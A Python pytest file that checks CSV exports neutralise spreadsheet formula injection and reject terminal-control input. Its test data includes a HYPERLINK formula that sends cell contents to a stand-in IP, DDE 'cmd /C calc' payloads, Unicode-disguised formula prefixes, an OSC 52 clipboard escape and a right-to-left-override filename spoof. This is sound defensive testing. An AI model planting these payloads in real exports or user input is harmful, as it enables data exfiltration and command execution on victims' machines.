"""G25: every export opens safely, whatever somebody wrote into any cell of it."""

import csv
import hashlib
import io
from pathlib import Path

import pytest

from engine.api.spreadsheet import as_csv, guarded
from engine.domain.decision import Answer
from engine.domain.errors import InputError
from engine.trace.outputs import LINE_LIST
from tests.guarantees.house import ME, a_house
from tests.guarantees.line_house import (
    LIST,
    both_answer,
    entry,
    exporting,
    lists,
    meetings,
    on_server,
)
from tests.guarantees.server_house import KIM

FORMULAS = (
    '=HYPERLINK("http://203.0.113.9/?"&A2,"call")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u3000=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹢1",
    "﹣1",
    "﹦1+1",
    "﹫SUM(1)",
    "\u22121+1",
    "\u3164=1+1",
    "\u115f＝1+1",
    "\u2800=1+1",
    "|calc",
    "%0A=1",
)
HARMLESS = ("김서윤", "O'Neill, Ann", 'the "corner" shop', "010-5550-1234", "3.5", "a=b", "명부 3쪽")


def cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("formula", FORMULAS)
def test_g25_no_column_of_any_file_holds_a_formula(formula: str) -> None:
    row = [formula] * len(LINE_LIST)
    heading, found = cells(as_csv([*LINE_LIST[:-1], formula], [row]))
    assert len(heading) == len(found) == len(LINE_LIST)
    for cell in (heading[-1], *found):
        assert cell.startswith("'")
        assert not set(cell) & set("\t\r\n")


@pytest.mark.parametrize("said", HARMLESS)
def test_g25_what_is_no_formula_stands_as_it_was_written(said: str) -> None:
    assert guarded(said) == said
    assert cells(as_csv(("a", "b"), [(said, said)]))[1] == [said, said]


def test_g25_the_file_is_what_spreadsheet_programs_take_for_utf_8() -> None:
    content = as_csv(("name",), [("김서윤",)])
    assert content == '\ufeff"name"\r\n"김서윤"\r\n'.encode()


async def test_g25_what_people_wrote_leaves_as_text(tmp_path: Path) -> None:
    async with a_house(tmp_path, rehearsal=False) as house:
        trace_id, candidates = await on_server(house, meetings(60))
        await both_answer(house, trace_id, candidates, Answer.SAME)
        (line,) = await lists(house).all(KIM, "A")
        evil = {name: "=1+1 " + name for name in ("name", "phone", "reference", "owner")}
        await lists(house).add(KIM, "A", entry(*line.scenes, **evil))
        file = await exporting(house).export(KIM, "A", LIST)
        assert hashlib.sha256(file.content).hexdigest() == file.sha256
        heading, row = cells(file.content)
        written = dict(zip(heading, row, strict=True))
        for name in evil:
            assert written[name] == "'" + evil[name]
        assert not any(cell[:1] in set("=+-@\t\r") for cell in row if cell)


@pytest.mark.parametrize("field", ["name", "reference", "phone", "owner", "note"])
@pytest.mark.parametrize("said", ["Park\x1b]52;c;aGk=\x07", "Park\u202egnp.exe", "Park\u2028", "P" * 5_000])
async def test_g25_what_would_act_on_a_terminal_is_not_taken(tmp_path: Path, field: str, said: str) -> None:
    async with a_house(tmp_path) as house:
        await house.case()
        with pytest.raises(InputError, match=f"^{field}: "):
            await lists(house).add(ME, "A", entry(**{field: said}))
